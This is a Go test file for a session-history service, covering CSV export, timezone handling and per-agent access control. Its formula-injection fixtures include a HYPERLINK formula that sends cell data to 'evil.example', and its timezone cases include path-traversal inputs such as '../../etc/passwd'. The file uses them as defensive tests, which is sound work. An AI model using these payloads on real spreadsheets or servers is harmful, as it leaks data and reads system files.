package history_test

import (
	"encoding/csv"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/qwelp/qwelp-go/signal"
	"github.com/qwelp/qwelp-go/signal/history"
	"github.com/qwelp/qwelp-go/signal/wire"
)

// told is a session in a history, with an agent.
func told(h *history.History, id string, at time.Time, agent signal.Agent, metaData map[string]any, reason wire.EndReason) {
	e := signal.Event{Kind: signal.EventStarted, Session: id, Started: at, Time: at, MetaData: metaData}
	h.Observe(e)
	e.Kind, e.Member, e.Agent = signal.EventJoined, "m", agent
	h.Observe(e)
	if reason != "" {
		e.Kind, e.Time, e.Reason = signal.EventEnded, at.Add(time.Minute), reason
		h.Observe(e)
	}
}

func TestAFileOfTheHistoryHasWhatTheFilterFindsAndNoFormula(t *testing.T) {
	_, db := newFaulty(t)
	db.SetMaxOpenConns(1)
	h := newHistory(t, db, &strings.Builder{})
	at := time.Date(2100, 7, 1, 23, 30, 0, 0, time.UTC)
	ann := signal.Agent{ID: "ann", Name: "=Ann"}
	hostile := []string{
		`=HYPERLINK("http://evil.example?x="&A1)`, "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1", "\u200b=1", "\u00a0=1", "＝1", "；=1", "x;=1+1", "x,+1", "x|-1", "x\t@a", `x";=1`, "x\n=1", "x\r\n  =1", "'=1", "−1",
	}
	for i, text := range hostile {
		told(h, "S"+string(rune('a'+i)), at.Add(time.Duration(i)*time.Second), ann, map[string]any{"k": text, text: "v"}, wire.EndAgent)
	}
	told(h, "other", at, signal.Agent{ID: "ben"}, nil, wire.EndCustomer)
	flush(t, h)
	for _, text := range hostile {
		if err := h.Note(t.Context(), "Sa", ann, text); err != nil {
			t.Fatal(err)
		}
	}
	w := show(h, "?format=csv&agent=ann&reason=agent&tz=Asia/Kolkata")
	if got := w.Header(); w.Code != 200 || got.Get("Content-Type") != "text/csv; charset=utf-8; header=present" || got.Get("Content-Disposition") != `attachment; filename="sessions.csv"` || got.Get("X-Content-Type-Options") != "nosniff" {
		t.Fatalf("got %d, %v", w.Code, got)
	}
	body, hasMark := strings.CutPrefix(w.Body.String(), "\ufeff")
	if !hasMark {
		t.Error("there is no byte order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(hostile)+1 || rows[0][1] != "Started (Asia/Kolkata)" || rows[len(rows)-1][0] != "Sa" || rows[len(rows)-1][1] != "2100-07-02 05:00:00" || rows[len(rows)-1][4] != "An agent ended it" {
		t.Errorf("%d rows, from %q to %q", len(rows), rows[0], rows[len(rows)-1])
	}
	// Whatever stands between cells: nothing after it begins a formula.
	formula := regexp.MustCompile(`^[\s\p{Z}\p{C}]*[=+@＝＋－＠−-]`)
	for _, row := range rows {
		for _, cell := range row {
			for _, part := range regexp.MustCompile("[,;|\"\t\r\n]").Split(cell, -1) {
				if formula.MatchString(part) {
					t.Errorf("%q may be a formula in %q", part, cell)
				}
			}
		}
	}
	if got := rows[1][7]; !strings.Contains(got, "k: ") {
		t.Errorf("metaData is %q", got)
	}
	if w := show(h, "?format=csv&from=x"); w.Code != 400 || strings.Contains(w.Header().Get("Content-Type"), "csv") {
		t.Errorf("a wrong date: %d, %v", w.Code, w.Header())
	}
}

func TestAFileHasAllPagesOfTheList(t *testing.T) {
	_, db := newFaulty(t)
	db.SetMaxOpenConns(1)
	h := newHistory(t, db, &strings.Builder{})
	for i := range 1100 {
		at := time.Date(2100, 1, 1, 0, 0, i, 0, time.UTC)
		h.Observe(signal.Event{Kind: signal.EventStarted, Session: "S" + at.Format("150405"), Started: at, Time: at})
	}
	flush(t, h)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(show(h, "?format=csv").Body.String(), "\ufeff"))).ReadAll()
	if err != nil || len(rows) != 1101 {
		t.Errorf("%d rows, %v", len(rows), err)
	}
}

func TestTimesAndDaysAreThoseOfTheAgent(t *testing.T) {
	_, db := newFaulty(t)
	db.SetMaxOpenConns(1)
	h := newHistory(t, db, &strings.Builder{})
	told(h, "S1", time.Date(2100, 7, 1, 23, 30, 0, 0, time.UTC), signal.Agent{ID: "ann", Name: "Ann"}, nil, "")
	flush(t, h)
	for _, c := range []struct{ query, zone, time string }{
		{"?", "UTC", "1 Jul 2100, 23:30"},
		{"?from=2100-07-01&until=2100-07-01", "UTC", "1 Jul 2100, 23:30"},
		{"?from=2100-07-02", "UTC", ""},
		{"?tz=Europe/Berlin&from=2100-07-02&until=2100-07-02", "Europe/Berlin", "2 Jul 2100, 01:30"},
		{"?tz=Europe/Berlin&until=2100-07-01", "Europe/Berlin", ""},
		{"?tz=America/Argentina/Buenos_Aires", "America/Argentina/Buenos_Aires", "1 Jul 2100, 20:30"},
		{"?tz=Etc/GMT%2B5", "Etc/GMT+5", "1 Jul 2100, 18:30"},
		{"?tz=Local", "UTC", "1 Jul 2100, 23:30"}, {"?tz=Nowhere/At_all", "UTC", "1 Jul 2100, 23:30"}, {"?tz=../../etc/passwd", "UTC", "1 Jul 2100, 23:30"},
		{"?tz=/etc/localtime", "UTC", "1 Jul 2100, 23:30"}, {"?tz=%00", "UTC", "1 Jul 2100, 23:30"}, {"?tz=" + strings.Repeat("A", 1000), "UTC", "1 Jul 2100, 23:30"},
	} {
		page := show(h, c.query).Body.String()
		if c.time == "" {
			if !strings.Contains(page, "No sessions like that") {
				t.Errorf("%s finds %s", c.query, page)
			}
		} else if !strings.Contains(page, `Started (`+strings.ReplaceAll(c.zone, "+", "&#43;")+`)`) || !strings.Contains(page, ">"+c.time+"<") {
			t.Errorf("%s: no %s, %s in %s", c.query, c.zone, c.time, page)
		}
	}
}

func TestAgentsMaySeeTheirOwnSessionsOnly(t *testing.T) {
	_, db := newFaulty(t)
	db.SetMaxOpenConns(1)
	newHistory(t, db, &strings.Builder{})
	h, err := history.New(history.Config{DB: db, OwnOnly: true, Keep: history.KeepForever})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { h.Close(t.Context()) })
	at := time.Date(2100, 7, 1, 12, 0, 0, 0, time.UTC)
	told(h, "SofAnn", at, signal.Agent{ID: "ann", Name: "Ann"}, map[string]any{"k": "of-ann"}, wire.EndAgent)
	told(h, "SofEve", at, signal.Agent{ID: "eve", Name: "ann"}, map[string]any{"k": "of-eve"}, wire.EndAgent) // calls herself ann
	told(h, "SofNobody", at, signal.Agent{}, map[string]any{"k": "of-nobody"}, wire.EndAgent)
	flush(t, h)
	for _, query := range []string{"?", "?agent=ann", "?agent=eve", "?text=of-eve", "?session=SofEve", "?format=csv", "?format=csv&agent=eve", "?reason=agent"} {
		for agent, own := range map[signal.Agent]string{{ID: "ann", Name: "eve"}: "of-ann", {ID: "eve", Name: "Ann"}: "of-eve", {ID: "ben", Name: "ann"}: "", {Name: "ann"}: "refused", {}: "refused"} {
			r := httptest.NewRequest("GET", "/_qwelp/agent/history"+query, nil)
			if agent != (signal.Agent{}) {
				r = r.WithContext(signal.WithAgent(r.Context(), agent))
			}
			w := httptest.NewRecorder()
			h.ServeHTTP(w, r)
			for _, of := range []string{"of-ann", "of-eve", "of-nobody"} {
				if strings.Contains(w.Body.String(), ">"+of+"<") != (of == own && w.Code == 200) && !strings.Contains(query, "=") || of != own && strings.Contains(w.Body.String(), ": "+of) {
					t.Errorf("%+v asks for %s: %s is in it, or is not: %s", agent, query, of, w.Body)
				}
			}
			if (w.Code == 403) != (own == "refused") {
				t.Errorf("%+v asks for %s: %d", agent, query, w.Code)
			}
		}
	}
}
